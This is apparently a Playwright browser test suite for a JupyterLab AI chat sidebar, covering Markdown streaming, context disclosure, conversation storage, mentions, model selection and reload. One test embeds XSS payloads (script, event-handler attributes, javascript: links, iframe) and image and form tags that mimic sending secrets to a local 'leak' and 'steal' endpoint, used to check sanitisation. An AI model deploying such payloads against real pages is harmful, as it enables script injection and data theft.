"""The chat sidebar against the real agent server and the fake model: a streamed
Markdown answer, what was sent as context, conversations kept on the server, and
hostile model output rendered inert."""

from __future__ import annotations

from typing import Any

import pytest
from browser_support import LabPage, resize_sidebar, write_notebook

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("aiide-agent-browser")]

ANSWER = (
    "# Prices\n\n### Plan\n\nFirst **load** the data, then plot it:\n\n"
    "```python\nimport pandas as pd\ndf = pd.read_csv('prices.csv')\ndf.price.plot()\n```\n\n"
    "- one\n- two\n"
)


def test_answer_streams_in_and_renders_as_markdown(
    chat: LabPage, fake_model: Any, screenshot: Any
) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": ANSWER, "delay": 0.05})
    chat.ask("How do I plot the price column?")
    streaming = chat.chat.locator(".aiide-Answer.aiide-mod-streaming")
    expect(streaming).to_have_count(1, timeout=15_000)
    chat.finished()
    answer = chat.answers().last
    expect(answer).not_to_have_class("aiide-mod-streaming")
    expect(answer.locator("h3")).to_contain_text("Plan")
    # Headings sized for a sidebar, not a notebook (an h1 was 2.2 times the text).
    sizes = answer.evaluate(
        """a => ['h1', 'p'].map(t => parseFloat(getComputedStyle(a.querySelector(t)).fontSize))"""
    )
    assert sizes[0] <= 1.3 * sizes[1], sizes
    expect(answer.locator("strong")).to_have_text("load")
    expect(answer.locator("pre code")).to_contain_text("df.price.plot()")
    expect(answer.locator("li")).to_have_count(2)
    actions = answer.locator(".aiide-CodeActions")
    for label in ("Copy", "Insert below", "Replace cell", "Run"):
        expect(actions.get_by_role("button", name=label, exact=False).first).to_be_visible()
    question = chat.chat.locator(".aiide-Question-text").last
    expect(question).to_have_text("How do I plot the price column?")
    screenshot(chat.chat, "chat-answer")


def test_context_sent_is_disclosed(chat: LabPage, fake_model: Any) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": "ok"})
    chat.ask("hello")
    chat.finished()
    context = chat.chat.locator(".aiide-Context").last
    expect(context.locator("summary")).to_contain_text("Context sent:")
    context.locator("summary").click()
    expect(context.locator("li").first).to_be_visible()


def test_conversations_are_kept_on_the_server(
    chat: LabPage, agent_lab: Any, fake_model: Any, screenshot: Any
) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": "Remembered answer."})
    chat.ask("Remember this question")
    chat.finished()
    cid = agent_lab.request("aiide/api/agent/conversations")["conversations"][0]["id"]
    chat.new_chat()
    expect(chat.chat.locator(".aiide-Question")).to_have_count(0)
    chat.chat.locator(".aiide-Header-toggle").click()
    listing = chat.chat.locator(".aiide-Conversations")
    expect(listing).to_be_visible()
    listing.locator(".aiide-Conversations-search").fill("remember")
    items = listing.locator(".aiide-Conversations-item")
    expect(items).to_have_count(1)
    screenshot(chat.chat, "chat-conversations")
    items.first.locator(".aiide-Conversations-open").click()
    expect(chat.chat.locator(".aiide-Question-text")).to_have_text("Remember this question")
    expect(chat.answers().last).to_contain_text("Remembered answer.")
    # Rename (kept in the workspace) and delete (on the server).
    chat.chat.locator(".aiide-Header-toggle").click()
    items.first.get_by_role("button", name="Rename", exact=False).click()
    chat.page.locator(".jp-Dialog input").fill("Price questions")
    chat.page.locator(".jp-Dialog").get_by_role("button", name="Rename").click()
    expect(chat.chat.locator(".aiide-Header-title")).to_have_text("Price questions")
    listing.locator(".aiide-Conversations-search").fill("price q")
    expect(items).to_have_count(1)
    items.first.get_by_role("button", name="Delete", exact=False).click()
    chat.page.locator(".jp-Dialog").get_by_role("button", name="Delete").click()
    expect(items).to_have_count(0)
    ids = [c["id"] for c in agent_lab.request("aiide/api/agent/conversations")["conversations"]]
    assert cid not in ids
    chat.chat.locator(".aiide-Header-toggle").click()


def test_the_conversation_list_stays_usable_beside_a_long_transcript(
    chat: LabPage, fake_model: Any, screenshot: Any
) -> None:
    """A long transcript on screen squeezed the opened list to its search box (~44 px):
    its results were invisible. The list keeps its share, and at the sidebar's default
    width every action of an entry is inside the panel."""
    from playwright.sync_api import expect

    long_answer = "\n\n".join(f"Paragraph {i}: the answer goes on." for i in range(120))
    fake_model.script({"text": long_answer})
    chat.ask("Tell me everything about squeezing")
    chat.finished()
    chat.chat.locator(".aiide-Header-toggle").click()
    listing = chat.chat.locator(".aiide-Conversations")
    listing.locator(".aiide-Conversations-search").fill("squeezing")
    # The search's answer replaces the full list (earlier tests' conversations): measure
    # once only the match is left.
    items = listing.locator(".aiide-Conversations-item")
    expect(items).to_have_count(1)
    item = items.filter(has_text="squeezing")
    expect(item).to_be_visible()
    list_box, item_box = listing.bounding_box(), item.bounding_box()
    panel_box = chat.chat.bounding_box()
    assert list_box and item_box and panel_box
    # The whole entry is inside the list, not scrolled out of a squeezed box.
    assert item_box["y"] + item_box["height"] <= list_box["y"] + list_box["height"] + 1, (
        item_box,
        list_box,
    )
    screenshot(chat.chat, "chat-conversations-long-transcript")
    resize_sidebar(chat.page, 250)  # JupyterLab's default sidebar width
    try:
        panel_box = chat.chat.bounding_box()
        assert panel_box and panel_box["width"] <= 260, panel_box
        for name in ("Rename", "Delete"):
            button = item.get_by_role("button", name=name, exact=False)
            expect(button).to_be_in_viewport()
            box = button.bounding_box()
            assert box and box["x"] + box["width"] <= panel_box["x"] + panel_box["width"], name
        title = item.locator(".aiide-Conversations-title")
        expect(title).to_have_attribute("title", "Tell me everything about squeezing")
        screenshot(chat.chat, "chat-conversations-narrow")
    finally:
        resize_sidebar(chat.page, 440)
    chat.chat.locator(".aiide-Header-toggle").click()


HOSTILE = """Here you go:

<script>window.__aiide_pwned = 'script'</script>
<img src="x" onerror="window.__aiide_pwned = 'img'">
<svg onload="window.__aiide_pwned = 'svg'"><circle r="5"/></svg>
<iframe srcdoc="<script>parent.__aiide_pwned = 'iframe'</script>"></iframe>
<a id="aiide-js-link" href="javascript:window.__aiide_pwned='link'">js link</a>
[md link](javascript:window.__aiide_pwned='mdlink')
<button data-commandlinker-command="help:about">About</button>
<details open ontoggle="window.__aiide_pwned = 'details'"><summary>s</summary>x</details>
![leak](http://127.0.0.1:9/leak?secret=1)
<form action="http://127.0.0.1:9/steal"><input name="a"><button>Send</button></form>
"""


def test_hostile_model_output_is_inert(chat: LabPage, fake_model: Any, screenshot: Any) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": HOSTILE})
    chat.ask("Show me something")
    chat.finished()
    answer = chat.answers().last
    expect(answer).to_contain_text("Here you go")
    for tag in ("script", "img", "svg", "iframe", "button", "form", "input"):
        expect(answer.locator(tag)).to_have_count(0)
    hrefs = answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert not [h for h in hrefs if h and h.strip().lower().startswith("javascript")], hrefs
    handlers = answer.evaluate(
        "el => [...el.querySelectorAll('*')].flatMap(n => [...n.attributes]"
        ".filter(a => a.name.startsWith('on') || a.name.startsWith('data-commandlinker'))"
        ".map(a => a.name))"
    )
    assert handlers == []
    for link in answer.locator("a").all():
        link.click(modifiers=["Alt"])  # Alt: no navigation away from the lab
    chat.page.wait_for_timeout(500)
    assert chat.page.evaluate("() => window.__aiide_pwned") is None
    assert chat.dialogs == []
    expect(chat.page.locator(".jp-Dialog")).to_have_count(0)
    screenshot(chat.chat, "chat-hostile-output")


def test_context_follows_the_active_notebook_and_mentions_complete(
    chat: LabPage, agent_lab: Any, fake_model: Any, screenshot: Any
) -> None:
    from playwright.sync_api import expect

    first = write_notebook(agent_lab.root_dir, "first.ipynb", [("f1", "a = 1")])
    second = write_notebook(agent_lab.root_dir, "second.ipynb", [("s1", "b = 2"), ("s2", "b * 2")])
    (agent_lab.root_dir / "prices.csv").write_text("day,price\n1,10\n")
    context_line = chat.chat.locator(".aiide-Composer-context")
    chat.open_notebook(first, kernel=False)
    expect(context_line).to_have_text(f"Context: {first} · cell 1")
    chat.open_notebook(second, kernel=False)
    expect(context_line).to_have_text(f"Context: {second} · cell 1")
    # The lab checkpoints a notebook it opens after the context is ready: a rename before
    # that copy makes it fail ("Failed to initialize the context", a dialog that takes the
    # focus). A person renames later; wait for the checkpoint as they would.
    chat.page.evaluate(
        """async path => {
          const contents = window.jupyterapp.serviceManager.contents;
          for (let i = 0; i < 150; i++) {
            if ((await contents.listCheckpoints(path)).length) { return; }
            await new Promise(r => setTimeout(r, 100));
          }
          throw new Error(`no checkpoint of ${path}`);
        }""",
        second,
    )
    # Renamed while open: the line follows (it kept the old name).
    chat.page.evaluate(
        "([a, b]) => window.jupyterapp.serviceManager.contents.rename(a, b).then(() => null)",
        [second, "renamed.ipynb"],
    )
    expect(context_line).to_have_text("Context: renamed.ipynb · cell 1")
    chat.page.evaluate(
        "([a, b]) => window.jupyterapp.serviceManager.contents.rename(a, b).then(() => null)",
        ["renamed.ipynb", second],
    )
    expect(context_line).to_have_text(f"Context: {second} · cell 1")

    box = chat.chat.locator(".aiide-Composer-input")
    box.fill("/ex")
    box.press("End")
    box.type("p")  # "/exp": the popup offers /explain
    popup = chat.chat.locator(".aiide-Popup")
    expect(popup.locator("[role=option]")).to_have_count(1)
    box.press("Enter")
    expect(box).to_have_value("/explain ")
    box.fill("")
    box.type("Compare with @pri")
    expect(popup.locator("[role=option]").first).to_contain_text("prices.csv")
    screenshot(chat.chat, "chat-mention")
    box.press("Enter")
    expect(box).to_have_value("Compare with @prices.csv ")
    box.type("and @")
    expect(popup.locator("[role=option]", has_text="cell 2")).to_have_count(1)
    popup.locator("[role=option]", has_text="cell 2").click()
    fake_model.script({"text": "Compared."})
    box.press("Enter")
    chat.finished()
    frame = [f for f in chat.sent if f.get("type") == "chat"][-1]
    assert frame["context"]["notebook"] == second
    assert frame["context"]["mentions"] == [
        {"kind": "file", "path": "prices.csv"},
        {"kind": "cell", "path": second, "cell_id": "s2"},
    ]


def test_dark_theme(chat: LabPage, fake_model: Any, screenshot: Any) -> None:
    from playwright.sync_api import expect

    chat.run_command("apputils:change-theme", {"theme": "JupyterLab Dark"})
    try:
        expect(chat.page.locator("body")).to_have_attribute("data-jp-theme-light", "false")
        fake_model.script({"text": ANSWER})
        chat.ask("How do I plot the price column?")
        chat.finished()
        screenshot(chat.chat, "chat-dark")
    finally:
        chat.run_command("apputils:change-theme", {"theme": "JupyterLab Light"})


def test_stop_cancels_the_answer(chat: LabPage, fake_model: Any) -> None:
    from playwright.sync_api import expect

    fake_model.script({"text": " ".join(f"word{i}" for i in range(200)), "delay": 0.05})
    chat.ask("Write a long story")
    expect(chat.answers().last).to_contain_text("word3", timeout=15_000)
    chat.chat.get_by_role("button", name="Stop").click()
    finished = chat.finished()
    expect(finished).to_have_attribute("data-status", "cancelled")
    expect(finished).to_contain_text("Stopped")
    expect(chat.chat.get_by_role("button", name="Send")).to_be_visible()
    assert "word199" not in chat.answers().last.inner_text()


def test_model_picker_offers_only_the_allowed_models(
    chat: LabPage, agent_lab: Any, fake_model: Any
) -> None:
    from playwright.sync_api import expect

    allowed = agent_lab.request("aiide/api/agent/models")["models"]
    picker = chat.chat.locator(".aiide-Header-model")
    values = picker.locator("option").evaluate_all("options => options.map(o => o.value)")
    assert values == ["", *[m["name"] for m in allowed if "chat" in m["capabilities"]]]
    picker.select_option("claude-haiku")
    fake_model.script({"text": "Answered by the small model."})
    chat.ask("Which model are you?")
    chat.finished()
    frame = [f for f in chat.sent if f.get("type") == "chat"][-1]
    assert frame["model"] == "claude-haiku"
    started = [f for f in chat.received if f.get("type") == "run_started"][-1]
    assert started["model"] == "claude-haiku"
    expect(chat.page.locator("#aiide-assistant-status")).to_contain_text("claude-haiku")
    picker.select_option("")  # back to Auto for the other tests


def test_a_reload_mid_answer_comes_back_to_the_conversation_still_answering(
    chat: LabPage, fake_model: Any, screenshot: Any
) -> None:
    """F5 while the answer streams: the lab opens on that conversation again (not "New
    conversation") and the answer goes on streaming into view (issue 19, finding 1)."""
    from playwright.sync_api import expect

    words = " ".join(f"word{i}" for i in range(60))
    fake_model.script({"text": words, "delay": 0.15})  # ~9 s of answer
    chat.ask("Tell me a long story")
    streaming = chat.chat.locator(".aiide-Answer.aiide-mod-streaming")
    expect(streaming).to_contain_text("word3", timeout=15_000)
    chat.run_command("docmanager:save-all")  # no "leave the page?" for earlier tests' notebooks
    chat.page.reload(wait_until="domcontentloaded")
    chat.page.locator("#jp-main-statusbar").wait_for()
    chat.open_chat()
    question = chat.chat.locator(".aiide-Question-text")
    expect(question.last).to_have_text("Tell me a long story", timeout=15_000)
    screenshot(chat.chat, "chat-restored-after-reload")
    chat.finished()
    expect(chat.answers().last).to_contain_text("word59")
